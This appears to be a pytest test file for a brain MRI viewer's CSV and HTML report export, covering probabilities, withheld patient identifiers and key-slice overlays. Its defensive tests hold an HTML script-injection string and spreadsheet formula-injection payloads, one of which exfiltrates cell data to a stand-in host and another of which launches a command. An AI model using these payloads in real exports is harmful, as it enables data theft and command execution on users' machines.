"""Study report export: CSV of every classified slice, self-contained HTML, identifiers withheld by default."""

from __future__ import annotations

import base64
import csv
import dataclasses
import re

import cv2
import numpy as np
import pydicom
import pytest
import torch

from convnest_viewer.inference.card import ModelCard, PreprocessSpec, default_classes
from convnest_viewer.inference.classifier import Classifier
from convnest_viewer.inference.explain import explain
from convnest_viewer.inference.factory import create_classifier
from convnest_viewer.inference.weights import write_model_folder
from convnest_viewer.io import load_study
from convnest_viewer.render import overlay_rgb
from convnest_viewer.report import write_csv, write_html
from convnest_viewer.results import ResultStore, summarize
from tests.paths import DICOM

EPI = DICOM / "ge-epi-4d"
UNCLASSIFIED_TAIL = 5  # the EPI series' last slices are left unclassified
DATA_URI = re.compile(r"data:image/png;base64,([A-Za-z0-9+/=]+)")
KEY_SLICE_URI = re.compile(r'class="keyslice"[^>]*src="data:image/png;base64,([A-Za-z0-9+/=]+)"')


def _hfs_folder():
    return next((DICOM / "patient-positions" / "In" / "HFS").iterdir())


@pytest.fixture(scope="module")
def classifier(tmp_path_factory):
    """A randomly initialised test ConvNeXt, loaded from a model folder."""
    torch.manual_seed(0)
    card = ModelCard(name="tiny-random-report", architecture="test_convnext", classes=default_classes(),
                     preprocessing=PreprocessSpec(size=64))
    folder = tmp_path_factory.mktemp("models") / "tiny-random-report"
    write_model_folder(create_classifier(card), card, folder)
    return Classifier(folder, device="cpu")


@pytest.fixture(scope="module")
def study(classifier):
    """The 4-D EPI (first 10 of 15 slices of volume 0 classified) and a fully classified 35-slice series."""
    epi = load_study([EPI]).series
    hfs = load_study([_hfs_folder()]).series
    assert len(epi) == 1 and epi[0].n_slices == 15 and epi[0].n_volumes == 10
    assert len(hfs) == 1 and hfs[0].n_slices == 35
    store = ResultStore()
    for series, count in ((epi[0], 15 - UNCLASSIFIED_TAIL), (hfs[0], 35)):
        predictions = classifier.predict([(series.pixels(i, 0), series.window(i, 0)) for i in range(count)])
        for i, prediction in enumerate(predictions):
            store.put_probabilities(classifier.weights_sha256, series.key, 0, i, prediction.probabilities)
    return [epi[0], hfs[0]], store


def _read_csv(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _identifiers(series):
    """Return the non-empty PatientName / PatientID strings of one of the series' DICOM files."""
    ds = pydicom.dcmread(series.sources()[0], stop_before_pixels=True)
    return [value for value in (str(ds.get("PatientName", "")), str(ds.get("PatientID", ""))) if value]


def _decode(payload):
    return cv2.imdecode(np.frombuffer(base64.b64decode(payload), np.uint8), cv2.IMREAD_COLOR)[..., ::-1]


def _no_images(text):
    """Drop the base64 payloads: a 3-letter ID like 'DEV' can occur in random base64 by chance."""
    return DATA_URI.sub("data:image/png;base64,", text)


def _no_heatmap(series, volume, index):
    return None


def test_csv_has_one_row_per_classified_slice_with_consistent_probabilities(classifier, study, tmp_path):
    series_list, store = study
    class_ids = classifier.class_ids
    path = write_csv(tmp_path / "report.csv", series_list, store, classifier.weights_sha256, class_ids)
    with path.open(encoding="utf-8", newline="") as handle:
        header = next(csv.reader(handle))
    assert header == ["series_number", "series_description", "modality", "volume", "slice", "slice_location_mm",
                      "predicted", "not_assessed"] + [f"p_{c}" for c in class_ids] + [f"p_{c}_slice_alone" for c in class_ids]
    rows = _read_csv(path)
    assert len(rows) == (15 - UNCLASSIFIED_TAIL) + 35
    for series, expected in zip(series_list, (15 - UNCLASSIFIED_TAIL, 35)):
        mine = [r for r in rows if r["series_description"] == series.description]
        assert [int(r["slice"]) for r in mine] == list(range(1, expected + 1))
        assert {r["volume"] for r in mine} == {"1"}
        assert all(r["series_number"] == str(series.number) and r["modality"] == "MR" for r in mine)
        for r in mine:
            index = int(r["slice"]) - 1
            assert float(r["slice_location_mm"]) == pytest.approx(series.slice_location(index, 0), abs=1e-3)
            stored = store.probabilities(classifier.weights_sha256, series.key, 0, index)
            values = np.array([float(r[f"p_{c}"]) for c in class_ids])
            assert np.allclose(values, stored, atol=1e-6)
            own = store.probabilities(classifier.weights_sha256, series.key, 0, index, alone=True)
            assert np.allclose([float(r[f"p_{c}_slice_alone"]) for c in class_ids], own, atol=1e-6)
    for r in rows:
        values = np.array([float(r[f"p_{c}"]) for c in class_ids])
        assert abs(values.sum() - 1.0) <= 1e-5
        assert r["predicted"] == class_ids[int(np.argmax(values))]
        assert all(len(r[f"p_{c}"].split(".")[1]) == 6 for c in class_ids)


def test_csv_gives_the_slice_read_with_its_neighbours_and_the_slice_alone(classifier, study, tmp_path):
    series_list, store = study
    model_id, class_ids = classifier.weights_sha256, classifier.class_ids
    store.set_slice_context(model_id, 1.5)
    try:
        rows = _read_csv(write_csv(tmp_path / "context.csv", series_list, store, model_id, class_ids))
    finally:
        store.set_slice_context(model_id, 0.0)
    series = series_list[1]
    mine = [r for r in rows if r["series_description"] == series.description]
    shown = np.array([[float(r[f"p_{c}"]) for c in class_ids] for r in mine])
    alone = np.array([[float(r[f"p_{c}_slice_alone"]) for c in class_ids] for r in mine])
    own = np.array([store.probabilities(model_id, series.key, 0, i, alone=True) for i in range(len(mine))])
    assert np.allclose(alone, own, atol=1e-6)
    assert np.abs(shown - alone).max() > 1e-4  # the neighbours change what is shown
    assert np.allclose(shown.sum(1), 1.0, atol=1e-5)
    assert np.abs(shown[1:-1] - (alone[:-2] + alone[1:-1] + alone[2:]) / 3).max() < np.abs(shown - alone).max()


def test_identifiers_are_withheld_by_default_and_written_on_request(classifier, study, tmp_path):
    series_list, store = study
    names = [value for series in series_list for value in _identifiers(series)]
    assert names, "the test data has patient identifiers"
    birth_dates = [s.patient.birth_date for s in series_list if s.patient.birth_date]
    model_id, class_ids, card = classifier.weights_sha256, classifier.class_ids, classifier.card

    csv_text = write_csv(tmp_path / "anon.csv", series_list, store, model_id, class_ids).read_text(encoding="utf-8")
    html_text = _no_images(write_html(tmp_path / "anon.html", series_list, store, model_id, card, _no_heatmap)
                           .read_text(encoding="utf-8"))
    for value in names + birth_dates:
        assert value not in csv_text
        assert value not in html_text
    assert "patient_name" not in csv_text and "series_uid" not in csv_text
    assert "Patient identifiers withheld" in html_text

    csv_path = write_csv(tmp_path / "named.csv", series_list, store, model_id, class_ids, include_identifiers=True)
    named_html = write_html(tmp_path / "named.html", series_list, store, model_id, card, _no_heatmap,
                            include_identifiers=True).read_text(encoding="utf-8")
    named_csv = csv_path.read_text(encoding="utf-8")
    for value in names:
        assert value in named_csv
        assert value in named_html
    for value in birth_dates:
        assert value in named_html
    assert "Patient identifiers withheld" not in named_html
    rows = _read_csv(csv_path)
    assert list(rows[0])[:4] == ["patient_name", "patient_id", "study_date", "series_uid"]
    assert {r["series_uid"] for r in rows} == {s.uid for s in series_list}


def test_html_is_self_contained_with_key_slice_overlays(classifier, study, tmp_path):
    series_list, store = study
    model_id = classifier.weights_sha256
    card = dataclasses.replace(classifier.card, metrics={"official_test": {"accuracy": 0.9731},
                                                         "leakage_free_test": {"accuracy": 0.9}})
    calls, heatmaps = [], {}

    def heatmap_for(series, volume, index):
        calls.append((series.key, volume, index))
        if series is not series_list[0]:
            return None  # the second series' key slices are shown plain
        heatmaps[index] = explain(classifier, series.pixels(index, volume), series.window(index, volume))
        return heatmaps[index]

    text = write_html(tmp_path / "report.html", series_list, store, model_id, card, heatmap_for,
                      device_name="CPU (test)").read_text(encoding="utf-8")
    expected = []
    for series in series_list:
        table = store.series_probabilities(model_id, series.key, 0, series.n_slices, len(card.class_ids))
        keys = summarize(table, card.class_ids, card.no_finding_id).key_slices[:4]
        assert keys
        expected += [(series.key, 0, i) for i in keys]
    assert calls == expected

    for needle in ["ConvNeXt Brain MRI Viewer — study report", "For research use, not for diagnosis", card.name,
                   model_id[:12], "97.3%", "90.0%", "official test split", "leakage-free test", "CPU (test)",
                   "Grad-CAM", "10/15 slices so far", "volume 1 only", "Patient identifiers withheld"]:
        assert needle in text, needle
    assert "http://" not in text and "https://" not in text and "<script" not in text

    images = [_decode(p) for p in KEY_SLICE_URI.findall(text)]
    assert len(images) == len(expected)
    assert len(DATA_URI.findall(text)) == len(expected) + len(series_list)  # plus one strip plot per series
    for image, (key, volume, index) in zip(images, expected):
        series = next(s for s in series_list if s.key == key)
        heatmap = heatmaps.get(index) if series is series_list[0] else None
        shown = overlay_rgb(series.pixels(index, volume), series.window(index, volume),
                            heatmap.values if heatmap is not None else None, aspect=series.aspect_ratio())
        assert image.shape == (round(series.rows * series.aspect_ratio()), series.columns, 3)
        assert np.array_equal(image, shown)
    assert images[0].shape == (64, 64, 3)  # an EPI slice: 64 x 64, aspect 1


def test_headline_metrics_are_omitted_when_the_card_has_none(classifier, study, tmp_path):
    series_list, store = study
    card = dataclasses.replace(classifier.card, metrics={})
    text = write_html(tmp_path / "r.html", series_list, store, classifier.weights_sha256, card, _no_heatmap,
                      method="shap").read_text(encoding="utf-8")
    assert "official test split" not in text and "leakage-free test" not in text
    assert "Gradient SHAP" in text


def test_a_script_in_a_series_description_is_escaped(classifier, study, tmp_path):
    _, store = study
    series = load_study([EPI]).series[0]
    series.description = "<script>alert('x')</script> & more"
    text = write_html(tmp_path / "r.html", [series], store, classifier.weights_sha256, classifier.card,
                      _no_heatmap).read_text(encoding="utf-8")
    assert "<script" not in text
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; more" in text
    rows = _read_csv(write_csv(tmp_path / "r.csv", [series], store, classifier.weights_sha256, classifier.class_ids))
    assert {r["series_description"] for r in rows} == {series.description}


@pytest.mark.parametrize("description", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
                                         "-2+3", "@SUM(A1:A9)", "\t=1+1"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(classifier, study, tmp_path, description):
    series_list, store = study
    series = series_list[1]
    original = series.description
    series.description = description
    try:
        rows = _read_csv(write_csv(tmp_path / "r.csv", [series], store, classifier.weights_sha256,
                                   classifier.class_ids, include_identifiers=True))
    finally:
        series.description = original
    assert {r["series_description"] for r in rows} == {"'" + description}
    locations = [float(r["slice_location_mm"]) for r in rows]
    assert min(locations) < 0, "negative slice locations stay numbers"
    assert all(not r["slice_location_mm"].startswith("'") for r in rows)


def test_unclassified_series_and_a_missing_folder(classifier, study, tmp_path):
    series_list, _ = study
    calls = []

    def heatmap_for(series, volume, index):
        calls.append(index)
        return None

    folder = tmp_path / "new" / "sub"
    html_path = write_html(folder / "r.html", series_list, ResultStore(), classifier.weights_sha256,
                           classifier.card, heatmap_for)
    csv_path = write_csv(folder / "r.csv", series_list, ResultStore(), classifier.weights_sha256, classifier.class_ids)
    text = html_path.read_text(encoding="utf-8")
    assert html_path.parent == folder and folder.is_dir()
    assert text.count("Not classified yet.") == len(series_list)
    assert "data:image/png" not in text and calls == []
    assert _read_csv(csv_path) == []


def test_a_later_volume_of_a_4d_series_is_reported(classifier, study, tmp_path):
    series_list, _ = study
    epi = series_list[0]
    store = ResultStore()
    probabilities = classifier.predict([(epi.pixels(0, 2), epi.window(0, 2))])[0].probabilities
    store.put_probabilities(classifier.weights_sha256, epi.key, 2, 0, probabilities)
    rows = _read_csv(write_csv(tmp_path / "r.csv", [epi], store, classifier.weights_sha256, classifier.class_ids))
    assert [(r["volume"], r["slice"]) for r in rows] == [("3", "1")]
    text = write_html(tmp_path / "r.html", [epi], store, classifier.weights_sha256, classifier.card,
                      _no_heatmap).read_text(encoding="utf-8")
    assert "volume 3 only" in text and "1/15 slices so far" in text


def test_the_html_report_opens_with_the_study_verdict_and_each_series_verdict(classifier, study, tmp_path):
    from convnest_viewer.report import series_report_verdict
    from convnest_viewer.verdict import study_verdict

    series_list, store = study
    model_id, card = classifier.weights_sha256, classifier.card
    text = _no_images(write_html(tmp_path / "r.html", series_list, store, model_id, card, _no_heatmap)
                      .read_text(encoding="utf-8"))
    names = {c.id: c.display for c in card.classes}
    verdicts = {s.key: series_report_verdict(s, store, model_id, card) for s in series_list}
    head = text.split("<h2>Verdict</h2>", 1)[1].split("<section>", 1)[0]
    assert f"<strong>{study_verdict(verdicts).text(names)}</strong>" in head
    for series in series_list:
        assert verdicts[series.key].text(names) in head
    assert text.index("<h2>Verdict</h2>") < text.index("<section>")
    for series, section in zip(series_list, text.split("<section>")[1:]):  # each section leads with its verdict
        verdict = verdicts[series.key].text(names)
        assert f"<strong>Series verdict: {verdict[:1].upper() + verdict[1:]}</strong>" in section
        assert section.index("Series verdict:") < section.index("Per slice: ")
